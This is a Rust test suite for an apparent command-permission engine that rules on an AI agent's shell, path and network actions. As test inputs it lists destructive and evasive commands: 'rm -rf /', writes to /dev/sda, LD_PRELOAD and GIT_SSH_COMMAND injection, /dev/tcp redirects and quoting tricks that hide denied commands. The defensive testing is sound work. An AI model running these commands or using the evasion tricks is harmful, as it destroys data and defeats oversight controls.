//! `policy.jsonc`: what a rule reaches, what it never reaches, and what is said of a file that is wrong.

#![expect(clippy::unwrap_used, clippy::disallowed_methods, reason = "a test may panic, and measure time")]

use pi_guard_policy::{
    AbsPath, Action, Capability, CapabilitySet, Decision, Request, RuleSet, decide,
    rules::{
        Gate,
        layers::{HardGuards, Layer, Layers, Policy},
    },
    world::{Fixture, Held},
};
use proptest::prelude::*;

const READING: CapabilitySet = CapabilitySet::of(&[Capability::Read, Capability::WriteScratch]);
const BUILDING: CapabilitySet =
    CapabilitySet::of(&[Capability::Read, Capability::WriteScratch, Capability::WriteWorkspace]);

#[derive(Clone, Copy, PartialEq, Debug)]
enum Mode {
    Off,
    Plan,
    Build,
}

fn judged(mode: Mode, held: Held, layers: &Layers, action: Action<'_>) -> Decision {
    let path = |text: &str| AbsPath::new(text.as_bytes()).unwrap();
    let (cwd, home) = (path("/w"), path("/home/u"));
    let (gate, free, ceiling) = match mode {
        Mode::Off => (Gate::Open, CapabilitySet::all(), CapabilitySet::all()),
        Mode::Plan => (Gate::ReadOnly, READING, READING),
        Mode::Build => (Gate::Workspace, BUILDING, CapabilitySet::all()),
    };
    let rules = RuleSet {
        mode: "m",
        gate,
        free,
        admitted: &[],
        instead: "i",
        wider: "w",
        policy: Some(layers).filter(|layers| !layers.is_empty()),
    };
    let request = Request { home: Some(&home), ..Request::new(action, &cwd, &ceiling) };
    decide(&request, &rules, &Fixture::new(held))
}

fn user(text: &str) -> Layers {
    Layers::new(vec![(Layer::User, Policy::parse(text).unwrap())])
}

fn verdict(mode: Mode, layers: &Layers, script: &str) -> &'static str {
    judged(mode, Held::Nothing, layers, Action::Shell(script.as_bytes())).verdict.name()
}

#[test]
fn a_rule_answers_what_build_would_ask() {
    let none = Layers::default();
    let rules = user(r#"{"bash": {"git push *": "allow", "frob *": "allow"}}"#);
    for (script, without, with) in [
        ("git push origin main", "ask", "allow"),
        ("frob --all x", "ask", "allow"),
        ("ls && git push", "ask", "allow"),
        ("git push; curl https://e.org/x", "ask", "ask"),
        ("ls", "allow", "allow"),
    ] {
        assert_eq!(
            (verdict(Mode::Build, &none, script), verdict(Mode::Build, &rules, script)),
            (without, with),
            "{script}"
        );
    }
}

#[test]
fn a_rule_never_permits_what_a_mode_or_a_guard_denies() {
    let rules = user(r#"{"bash": {"*": "allow"}, "paths": {"write": {"/**": "allow"}}, "network": {"*": "allow"}}"#);
    for script in ["rm -rf src", "git push", "curl https://e.org/x", "echo x > file"] {
        assert_eq!(verdict(Mode::Plan, &rules, script), "deny", "{script}");
    }
    assert_eq!(verdict(Mode::Build, &rules, "rm -rf /"), "deny");
}

/// What words do not say, no pattern of words permits.
#[test]
fn a_rule_for_words_answers_for_nothing_beside_them() {
    let rules = user(r#"{"bash": {"git *": "allow", "cat *": "allow", "rm *": "allow"}}"#);
    let many = " x".repeat(8200);
    for script in [
        "LD_PRELOAD=/tmp/x.so git status".to_owned(),
        "PATH=/tmp/x git status".to_owned(),
        "GIT_SSH_COMMAND='sh /tmp/x' git fetch".to_owned(),
        "git status > /etc/x".to_owned(),
        "git -c alias.x=push x".to_owned(),
        format!("rm -rf{many} /srv/x"),
    ] {
        let shown: String = script.chars().take(60).collect();
        assert_eq!(verdict(Mode::Build, &rules, &script), "ask", "{shown}");
    }
    assert_eq!(verdict(Mode::Plan, &rules, "LD_PRELOAD=/tmp/x.so cat a"), "ask");
    assert_eq!(verdict(Mode::Build, &rules, "git fetch; git status"), "allow", "control");
    assert_eq!(verdict(Mode::Plan, &rules, "cat a"), "allow", "control");
}

/// A redirect is no word of the command.
#[test]
fn a_rule_for_words_does_not_answer_for_a_redirect() {
    let rules = user(r#"{"bash": {"cat *": "allow", "curl *": "allow", "frob *": "allow"}}"#);
    for script in ["cat a >/dev/tcp/e.org/80", "curl https://e.org/ </dev/udp/f.org/1", "frob x 3<>/dev/tcp/e.org/80"] {
        assert_eq!(verdict(Mode::Build, &rules, script), "ask", "{script}");
    }
    assert_eq!(verdict(Mode::Build, &rules, "curl https://e.org/ >o; frob"), "allow", "control");
}

/// What a rule says of files below a directory holds for what is done to the directory.
#[test]
fn a_directory_stands_for_what_lies_below() {
    let rules = user(
        r#"{"paths": {"write": {"generated/**": "deny", "a/b/c.lock": "deny", "*.key": "ask"},
                      "read": {"private/**": "deny", "notes/x": "ask"}}}"#,
    );
    let none = Layers::default();
    for (script, wanted) in [
        ("rm -r generated", "deny"),
        ("rm -rf ./generated/", "deny"),
        ("rm -rf .", "deny"),
        ("rm -rf ./*", "deny"),
        ("rm -rf a", "deny"),
        ("rmdir generated", "deny"),
        ("mv generated y", "deny"),
        ("mv a y", "deny"),
        ("mv y generated", "deny"),
        ("cp -r y/. .", "deny"),
        ("cp y generated", "deny"),
        ("cp z/c.lock a/b", "deny"),
        ("cp y.key .", "ask"),
        ("chmod -R 755 .", "deny"),
        ("chmod --recur 755 a", "deny"),
        ("find . -delete", "deny"),
        ("rsync -a y/ .", "deny"),
        ("tar x -f x.tar", "deny"),
        ("tar c private", "deny"),
        ("tar c .", "deny"),
        ("cp -r private x", "deny"),
        ("cp -a . /w/x", "deny"),
        ("grep -r x private", "deny"),
        ("grep -R x .", "deny"),
        ("rgrep x .", "deny"),
        ("rg x", "deny"),
        ("ls private", "deny"),
        ("ls -R", "deny"),
        ("cat private/*", "deny"),
        ("mv private x", "deny"),
        ("zip -r x.zip .", "deny"),
        ("tar c notes", "ask"),
        ("cat < private/key", "deny"),
        // What does not go down does not reach it.
        ("cp y .", "allow"),
        ("cp y a", "allow"),
        ("mv y a/b", "allow"),
        ("chmod 755 .", "allow"),
        ("mkdir a/b/d", "allow"),
        ("rm -r other", "allow"),
        ("rm -r a/b/d", "allow"),
        ("ls", "allow"),
        ("ls -l .", "allow"),
        ("cat notes/y", "allow"),
        ("cat src/*", "allow"),
        ("grep -r x src", "allow"),
        ("tar c src", "allow"),
        ("echo x > a/b/d", "allow"),
    ] {
        assert_eq!(verdict(Mode::Build, &none, script), "allow", "{script} without rules");
        assert_eq!(verdict(Mode::Build, &rules, script), wanted, "{script}");
    }
    // What is named, and what surely goes down, is refused also where a sandbox holds the command.
    for (script, wanted) in [
        ("rm -r generated", "deny"),
        ("rm -rf .", "deny"),
        ("tar c .", "deny"),
        ("rg x", "deny"),
        ("cat private/*", "deny"),
        ("make", "allow"),
        ("git status", "allow"),
        ("ls", "allow"),
    ] {
        let judged = judged(Mode::Build, Held::Kernel, &rules, Action::Shell(script.as_bytes()));
        assert_eq!(judged.verdict.name(), wanted, "{script} in a sandbox");
    }
}

#[test]
fn what_a_rule_allows_says_which_rule() {
    let rules = user(r#"{"bash": {"git push *": "allow"}, "paths": {"write": {"/srv/out/**": "allow"}}}"#);
    for (script, pattern) in [("git push origin x", "git push *"), ("touch /srv/out/x", "/srv/out/**")] {
        let judged = judged(Mode::Build, Held::Nothing, &rules, Action::Shell(script.as_bytes()));
        let reason = judged.reasons.first().unwrap();
        assert_eq!((judged.verdict.name(), &*reason.rule.0), ("allow", "policy.user.allow"), "{script}");
        assert!(reason.why.contains(pattern), "{}", reason.why);
    }
    let other = judged(Mode::Build, Held::Nothing, &rules, Action::Shell(b"ls"));
    assert_eq!(other.reasons.first().unwrap().rule.0, "mode.m.workspace", "control");
}

#[test]
fn more_than_is_followed_passes_no_hard_guard() {
    let none = Layers::default();
    let many = " x".repeat(8200);
    for script in [format!("rm -rf{many} /"), format!("tee{many} /dev/sda"), format!("find{many} -exec rm -rf / \\;")] {
        let shown: String = script.chars().take(40).collect();
        assert_eq!(verdict(Mode::Off, &none, &script), "deny", "{shown}");
    }
    assert_eq!(verdict(Mode::Off, &none, "rm -rf x1 x2"), "allow", "control");
}

#[test]
fn no_way_of_quoting_hides_a_command_or_forges_one() {
    let deny = user(r#"{"bash": {"git push *": "deny"}}"#);
    for script in [
        "git push",
        "git push origin main",
        "'git' push",
        "g\\it pu\\sh --force",
        "$'\\x67it' push",
        "/usr/bin/git push",
        "git -C d push",
        "git --no-pager push",
        "git -c a.b=c -C d push origin",
        "true && { git push; }",
        "for x in 1; do git push; done",
        "x=push; git $x",
        "bash -c 'git push'",
        "eval \"git push\"",
        "env A=1 git push",
        "timeout 5 git push",
        "xargs git push < f",
        "f() { git push; }; f",
        "echo $(git push)",
    ] {
        assert_eq!(verdict(Mode::Build, &deny, script), "deny", "{script}");
    }
    for script in ["echo 'git push'", "echo git push", "git log --grep push", "# git push\nls", "git status"] {
        assert_eq!(verdict(Mode::Build, &deny, script), "allow", "{script}");
    }
    // A word that is not known may be the denied one; and it is never the allowed one.
    assert_eq!(verdict(Mode::Build, &deny, "git $(cat verb)"), "deny");
    let allow = user(r#"{"bash": {"frob safe *": "allow"}}"#);
    assert_eq!(verdict(Mode::Build, &allow, "frob safe x"), "allow");
    for script in ["frob $(cat verb)", "frob safe $(cat more)", "frob safe *.x", "./frob safe x", "frob 'safe x'"] {
        assert_eq!(verdict(Mode::Build, &allow, script), "ask", "{script}");
    }
}

#[test]
fn the_most_specific_rule_decides() {
    let rules = user(
        r#"{"bash": {
            "frob *": "deny",
            "frob show *": "allow",
            "frob show secret*": "ask",
            "frob show secret-1": "allow",
            "frob list": "ask",
            "frob list ": "allow"
        }}"#,
    );
    for (script, wanted) in
        [("frob x", "deny"), ("frob show x", "allow"), ("frob show secrets", "ask"), ("frob show secret-1", "allow")]
    {
        assert_eq!(verdict(Mode::Build, &rules, script), wanted, "{script}");
    }
}

#[test]
fn the_strictest_layer_holds_and_a_project_only_narrows() {
    let policy = |say: &str| Policy::parse(&format!(r#"{{"bash": {{"frob *": "{say}"}}}}"#)).unwrap();
    let of = |layers: &[(Layer, &str)]| {
        verdict(Mode::Build, &Layers::new(layers.iter().map(|(layer, say)| (*layer, policy(say))).collect()), "frob x")
    };
    let (managed, own, project) = (Layer::Managed, Layer::User, Layer::Project);
    assert_eq!(of(&[(own, "allow")]), "allow");
    assert_eq!(of(&[(project, "allow")]), "ask");
    assert_eq!(of(&[(project, "deny")]), "deny");
    assert_eq!(of(&[(own, "allow"), (project, "ask")]), "ask");
    assert_eq!(of(&[(managed, "ask"), (own, "allow")]), "ask");
    assert_eq!(of(&[(managed, "allow"), (own, "deny")]), "deny");
}

#[test]
fn off_has_hard_guards_alone() {
    let rules = user(r#"{"bash": {"ls *": "deny"}}"#);
    assert_eq!(verdict(Mode::Off, &rules, "ls x"), "allow");
    assert_eq!(verdict(Mode::Plan, &rules, "ls x"), "deny", "control");
}

#[test]
fn paths_go_by_components_after_resolving() {
    let rules = user(
        r#"{"paths": {
            "read": {"private/**": "deny", "~/notes/*": "ask"},
            "write": {"generated/**": "deny", "/srv/out/**": "allow"}
        }}"#,
    );
    for (script, wanted) in [
        ("cat private/a/b", "deny"),
        ("cat ./x/../private/a", "deny"),
        ("cd private && cat a", "deny"),
        ("cat private", "deny"),
        ("cat privates/a", "allow"),
        ("cat ~/notes/a", "ask"),
        ("cat ~/notes/a/b", "allow"),
        ("echo x > generated/a", "deny"),
        ("rm generated/deep/a", "deny"),
        ("echo x > generatedx/a", "allow"),
        ("cp a /srv/out/a", "allow"),
        ("cp a /srv/outer/a", "ask"),
    ] {
        assert_eq!(verdict(Mode::Build, &rules, script), wanted, "{script}");
    }
    // What is not known may be the denied place, where nothing holds it.
    assert_eq!(verdict(Mode::Build, &rules, "cat \"$(cat name)\""), "deny");
    let held = judged(Mode::Build, Held::Kernel, &rules, Action::Shell(b"cat \"$(cat name)\""));
    assert_eq!(held.verdict.name(), "allow");
    let file = AbsPath::new(b"/w/generated/a").unwrap();
    assert_eq!(judged(Mode::Build, Held::Kernel, &rules, Action::Write(&file)).verdict.name(), "deny");
}

#[test]
fn hosts_are_names() {
    let rules = user(r#"{"network": {"*.example.org": "allow", "bad.example.org": "deny"}}"#);
    for (script, wanted) in [
        ("curl https://api.example.org/x", "allow"),
        ("curl https://API.example.org./x", "allow"),
        ("curl https://bad.example.org/x", "deny"),
        ("curl https://example.org/x", "ask"),
        ("curl https://api.example.org.evil.com/x", "ask"),
        ("curl \"$(cat url)\"", "deny"),
    ] {
        assert_eq!(verdict(Mode::Build, &rules, script), wanted, "{script}");
    }
}

#[test]
fn a_reason_names_the_rule() {
    let rules = user(
        "{\n  // no pushing\n  \"bash\": {\n    \"git push *\": {\"decision\": \"deny\", \"reason\": \"releases go through CI\"},\n  },\n}",
    );
    let decision = judged(Mode::Build, Held::Nothing, &rules, Action::Shell(b"ls; git push"));
    let reason = decision.reasons.first().unwrap();
    assert_eq!(reason.rule.to_string(), "policy.user.deny");
    assert_eq!(reason.why, "the user policy denies it: `git push *`, line 4: releases go through CI");
    assert_eq!(reason.span.map(|span| (span.start, span.end)), Some((4, 12)));
}

#[test]
fn a_file_that_is_wrong_is_an_error_with_its_place() {
    for (text, code, line, column) in [
        ("", "policy.syntax", 1, 1),
        ("{", "policy.syntax", 1, 1),
        ("[]", "policy.type", 1, 1),
        ("{\n  \"bsh\": {}\n}", "policy.unknown-key", 2, 3),
        ("{\"bash\": []}", "policy.type", 1, 10),
        ("{\"bash\": {\"ls\": \"yes\"}}", "policy.decision", 1, 17),
        ("{\"bash\": {\"ls\": \"allow\", \"ls\": \"deny\"}}", "policy.twice", 1, 26),
        ("{\"bash\": {\"'ls\": \"allow\"}}", "policy.pattern", 1, 11),
        ("{\"bash\": {\"\": \"allow\"}}", "policy.pattern", 1, 11),
        ("{\"bash\": {\"ls\": {\"reason\": \"x\"}}}", "policy.type", 1, 17),
        ("{\"bash\": {\"ls\": {\"decision\": \"allow\", \"why\": \"x\"}}}", "policy.unknown-key", 1, 39),
        ("{\"bash\": {\"ls *\": {\"decision\": \"allow\", \"match\": [\"cat x\"]}}}", "policy.example", 1, 51),
        ("{\"bash\": {\"ls *\": {\"decision\": \"deny\", \"notMatch\": [\"a; ls\"]}}}", "policy.example", 1, 53),
        ("{\"paths\": {\"read\": {\"a/../b\": \"deny\"}}}", "policy.pattern", 1, 21),
        ("{\"paths\": {\"read\": {\"a[\": \"deny\"}}}", "policy.pattern", 1, 21),
        ("{\"paths\": {\"run\": {}}}", "policy.unknown-key", 1, 12),
        ("{\"network\": {\"https://e.org\": \"allow\"}}", "policy.pattern", 1, 14),
        ("{bash: {}}", "policy.syntax", 1, 2),
    ] {
        let error = Policy::parse(text).expect_err(text);
        assert_eq!((error.code, error.line, error.column), (code, line, column), "{text}\n{error}");
    }
    let error = Policy::parse("{\n\t\"bash\": {\"ls\": \"yes\"}}").expect_err("an error");
    assert_eq!(
        error.to_string(),
        "2:17: a decision is \"allow\", \"ask\" or \"deny\" [policy.decision]\n  2 |  \"bash\": {\"ls\": \"yes\"}}\n    |                 ^^^^^"
    );
    assert!(Policy::parse("{\"bash\": {\"ls *\": {\"decision\": \"deny\", \"match\": [\"ls\", \"x; ls -l\"], \"notMatch\": [\"echo ls\"]}}}").is_ok());
    assert!(Policy::parse(&format!("{}{}", "[".repeat(100_000), "]".repeat(100_000))).is_err());
}

fn guarded(policies: Vec<(Layer, Policy)>, guards: &str) -> Layers {
    Layers::new(policies).guarded(vec![HardGuards::parse(guards).unwrap()])
}

#[test]
fn nothing_overrides_a_hard_guard() {
    let guards = r#"{
        // What nobody here may do.
        "bash": {"frob wipe *": {"decision": "deny", "reason": "it is gone then", "match": ["frob wipe x"]}}
    }"#;
    let everything = r#"{"bash": {"*": "allow", "frob wipe x": "allow"}}"#;
    let layers = || [Layer::Managed, Layer::User].map(|layer| (layer, Policy::parse(everything).unwrap())).to_vec();
    let (without, with) = (Layers::new(layers()), guarded(layers(), guards));
    assert_eq!(verdict(Mode::Build, &without, "frob wipe x"), "allow", "control");
    for mode in [Mode::Off, Mode::Plan, Mode::Build] {
        for script in [
            "frob wipe x",
            "false && fr'o'b wi\\pe x",
            "cd d; /bin/frob -v wipe y",
            "env frob wipe x",
            "bash -c 'frob wipe x'",
            "x=wipe; frob $x y",
            "frob \"$y\" z",
            "f() { frob wipe x; }; f",
        ] {
            let decision = judged(mode, Held::Kernel, &with, Action::Shell(script.as_bytes()));
            assert_eq!(
                (decision.verdict.name(), decision.reasons[0].rule.to_string().as_str()),
                ("deny", "guard.written"),
                "{mode:?} {script}"
            );
        }
        for script in ["frob list", "echo frob wipe x"] {
            let decision = judged(mode, Held::Kernel, &with, Action::Shell(script.as_bytes()));
            assert_ne!(decision.verdict.name(), "deny", "{mode:?} {script}: {:?}", decision.reasons);
        }
    }
    let more = with.and(Layer::User, Policy::parse(everything).unwrap());
    assert_eq!(verdict(Mode::Build, &more, "frob wipe x"), "deny", "one more file takes no guard away");
    let decision = judged(Mode::Off, Held::Nothing, &with, Action::Shell(b"frob wipe x"));
    assert!(decision.reasons[0].why.ends_with("`frob wipe *`, line 3 of hard-guards.jsonc: it is gone then"));
}

#[test]
fn a_file_of_hard_guards_that_is_wrong_has_none() {
    for (text, code, line, column) in [
        ("", "policy.syntax", 1, 1),
        ("{\"bash\": {\"frob *\": \"ask\"}}", "policy.decision", 1, 21),
        ("{\"bash\": {\"frob *\": \"allow\"}}", "policy.decision", 1, 21),
        ("{\n\"paths\": {}}", "policy.unknown-key", 2, 1),
        ("{\"bash\": {\"frob *\": {\"reason\": \"r\"}}}", "policy.type", 1, 21),
        ("{\"bash\": {\"frob *\": {\"decision\": \"deny\", \"match\": [\"ls\"]}}}", "policy.example", 1, 52),
    ] {
        let error = HardGuards::parse(text).unwrap_err();
        assert_eq!((error.code, error.line, error.column), (code, line, column), "{text}: {error}");
    }
}

#[test]
fn a_broken_file_is_an_error_and_never_a_wider_policy() {
    let text = "{\n  // What history needs.\n  \"bash\": {\n    \"*\": \"allow\",\n    \"git push *\": {\"decision\": \"deny\", \"reason\": \"r\", \"match\": [\"git push x\"]},\n    \"frob *\": \"ask\"\n  },\n  \"paths\": {\"write\": {\"/srv/**\": \"allow\", \"/srv/keep/**\": \"deny\"}},\n  \"network\": {\"e.org\": \"deny\"}\n}";
    let scripts = ["git push x", "frob a", "unheard-of", "touch /srv/a", "touch /srv/keep/a", "curl https://e.org"];
    let said = |text: &str| {
        let layers = user(text);
        scripts.map(|script| verdict(Mode::Build, &layers, script))
    };
    let whole = said(text);
    assert!(whole.contains(&"allow") && whole.contains(&"ask") && whole.contains(&"deny"), "control: {whole:?}");
    for end in 0..text.len() {
        let (beginning, _) = text.split_at(end);
        assert!(Policy::parse(beginning).is_err(), "cut off: {beginning}");
    }
    let mut refused = 0;
    for (at, letter) in text.char_indices().filter(|(_, letter)| "{}[]:,\"".contains(*letter)) {
        let (before, after) = text.split_at(at);
        let without = format!("{before}{}", after.strip_prefix(letter).unwrap());
        match Policy::parse(&without) {
            Err(error) => {
                refused += 1;
                assert!(error.line >= 1 && error.column >= 1 && error.to_string().ends_with('^'), "{error}");
            }
            Ok(_) => assert_eq!(said(&without), whole, "{without}"),
        }
    }
    assert!(refused > 40, "{refused}");
    for word in ["decision", "deny", "ask", "allow", "bash", "paths", "write", "network", "reason", "match"] {
        let quoted = format!("\"{word}\"");
        let other = text.replacen(&quoted, &format!("\"{word}x\""), 1);
        assert!(other != text && Policy::parse(&other).is_err(), "{other}");
    }
}

/// By the fastest of many rounds, taken in turns: what others do on the machine slows some rounds, never all of them.
#[test]
fn five_hundred_rules_for_commands_and_hosts_cost_nothing_measurable() {
    let bash = (0..450).map(|at| format!("\"tool{} sub{at} *\": \"deny\"", at % 300)).collect::<Vec<_>>().join(",");
    let hosts = (0..50).map(|at| format!("\"h{at}.example.org\": \"deny\"")).collect::<Vec<_>>().join(",");
    let rules = user(&format!("{{\"bash\": {{{bash}}}, \"network\": {{{hosts}}}}}"));
    let none = Layers::default();
    let scripts =
        ["git log --oneline | head", "ls -la src", "cat a b", "grep -rn x src | sort | uniq -c", "tool1 sub1 x"];
    assert_eq!((verdict(Mode::Build, &none, scripts[4]), verdict(Mode::Build, &rules, scripts[4])), ("ask", "deny"));
    let round = |layers: &Layers| {
        let begun = std::time::Instant::now();
        for script in &scripts[..4] {
            assert_eq!(verdict(Mode::Build, layers, script), "allow", "{script}");
        }
        begun.elapsed()
    };
    let (mut without, mut with) = (round(&none), round(&rules));
    for _ in 0..3_000 {
        without = without.min(round(&none));
        with = with.min(round(&rules));
        if with.as_secs_f64() <= 1.1 * without.as_secs_f64() {
            return;
        }
    }
    panic!("{with:?} with the rules, {without:?} without");
}

fn any_policy() -> impl Strategy<Value = String> {
    let pattern = prop::sample::select(vec!["*", "frob *", "frob a", "git push *", "ls *", "curl *", "rm *", "git *"]);
    let say = prop::sample::select(vec!["allow", "ask", "deny"]);
    prop::collection::btree_map(pattern, say, 0..5).prop_map(|rules| {
        let rules: Vec<String> = rules.iter().map(|(pattern, say)| format!("\"{pattern}\": \"{say}\"")).collect();
        format!("{{\"bash\": {{{}}}}}", rules.join(", "))
    })
}

fn rank(verdict: &str) -> u8 {
    match verdict {
        "allow" => 0,
        "ask" => 1,
        _ => 2,
    }
}

proptest! {
    /// Adding a layer below never widens what those above it say, and no layer widens a mode that denies.
    #[test]
    fn a_lower_layer_never_widens(upper in any_policy(), lower in any_policy(), script in prop::sample::select(vec![
        "frob a", "frob b; ls x", "git push", "git status", "curl https://e.org", "rm x", "rm /etc/x", "ls | frob a",
    ])) {
        let parsed = |text: &str| Policy::parse(text).unwrap();
        let of = |mode, layers: Vec<(Layer, Policy)>| rank(verdict(mode, &Layers::new(layers), script));
        for (above, below) in [(Layer::Managed, Layer::User), (Layer::User, Layer::Project)] {
            let alone = of(Mode::Build, vec![(above, parsed(&upper))]);
            let said = Layers::new(vec![(above, parsed(&upper))]);
            let both = of(Mode::Build, vec![(above, parsed(&upper)), (below, parsed(&lower))]);
            let silent = said.is_empty() || alone == rank(verdict(Mode::Build, &Layers::default(), script));
            // A user's rule may answer what the administrator left open; a project's may not.
            if below == Layer::Project || !silent {
                prop_assert!(both >= alone || (below == Layer::User && alone == 1), "{above}: {upper} {lower} {script}");
            }
        }
        let plan = rank(verdict(Mode::Plan, &Layers::default(), script));
        if plan == 2 {
            prop_assert_eq!(of(Mode::Plan, vec![(Layer::User, parsed(&upper))]), 2);
        }
    }

    #[test]
    fn no_text_makes_reading_a_file_panic(text in any::<String>()) {
        drop(Policy::parse(&text));
    }

    #[test]
    fn no_json_makes_reading_a_file_panic(text in "[\\[\\]{}:,\"a-z*/ \n]{0,60}") {
        drop(Policy::parse(&text));
    }
}
